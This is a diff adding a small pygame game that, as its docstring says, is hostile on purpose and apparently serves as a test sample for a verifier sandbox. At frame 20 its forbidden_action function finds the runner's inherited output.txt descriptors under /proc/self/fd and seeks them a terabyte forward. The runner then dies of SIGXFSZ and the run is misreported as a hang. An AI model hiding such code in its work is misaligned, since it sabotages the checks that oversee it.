@@ -1,0 +1,78 @@
+"""Hostile on purpose: ends the sandbox's runner by moving its own output file's offset.
+
+A small playable game (arrows move the block, a dot pulses) that also, once at frame 20,
+finds the runner's ``output.txt`` descriptors among its own (the fork kept them; the open
+file, and so its offset, is shared with the runner) and ``lseek``s them a terabyte forward,
+then prints a line. The runner, draining the run's output into the file, writes past its
+file-size limit and dies of SIGXFSZ, taking the sandbox with it: the verdict says "hang"
+and nothing says why. Nothing leaves the sandbox. Never run it outside the verifier's
+sandbox.
+
+Controls: arrow keys move the block, a click puts it there, other keys change its colour.
+"""
+
+import os
+
+import pygame
+
+WIDTH, HEIGHT = 640, 480
+FPS = 60
+COLOURS = [(90, 200, 250), (250, 120, 90), (140, 240, 120)]
+
+
+def forbidden_action():
+    moved = 0
+    for fd in range(3, 256):
+        try:
+            target = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            continue
+        if target.endswith("/output.txt"):
+            os.lseek(fd, 1 << 40, os.SEEK_SET)
+            moved += 1
+    print("a line for the runner to write", flush=True)
+    return f"moved {moved}"
+
+
+def main():
+    pygame.init()
+    screen = pygame.display.set_mode((WIDTH, HEIGHT))
+    font = pygame.font.Font(None, 28)
+    clock = pygame.time.Clock()
+    block = pygame.Rect(WIDTH // 2, HEIGHT // 2, 30, 30)
+    frame, status, colour = 0, "ok", 0
+    moves = {
+        pygame.K_LEFT: (-15, 0),
+        pygame.K_RIGHT: (15, 0),
+        pygame.K_UP: (0, -15),
+        pygame.K_DOWN: (0, 15),
+    }
+    running = True
+    while running:
+        for event in pygame.event.get():
+            if event.type == pygame.QUIT:
+                running = False
+            elif event.type == pygame.KEYDOWN and event.key in moves:
+                block.move_ip(*moves[event.key])
+                block.clamp_ip(screen.get_rect())
+            elif event.type == pygame.KEYDOWN:  # any other key changes the colour
+                colour = (colour + 1) % len(COLOURS)
+            elif event.type == pygame.MOUSEBUTTONDOWN:
+                block.center = event.pos
+        frame += 1
+        if frame == 20:
+            try:
+                status = forbidden_action()
+            except Exception as exc:  # carry on, so that only the attempt is wrong
+                status = type(exc).__name__
+        screen.fill((25, 25, 45))
+        pygame.draw.circle(screen, (250, 200, 60), (80, 400), 10 + frame % 20)
+        pygame.draw.rect(screen, COLOURS[colour], block)
+        screen.blit(font.render(f"{status}   Arrows: move", True, (230, 230, 230)), (10, 10))
+        pygame.display.flip()
+        clock.tick(FPS)
+    pygame.quit()
+
+
+if __name__ == "__main__":
+    main()
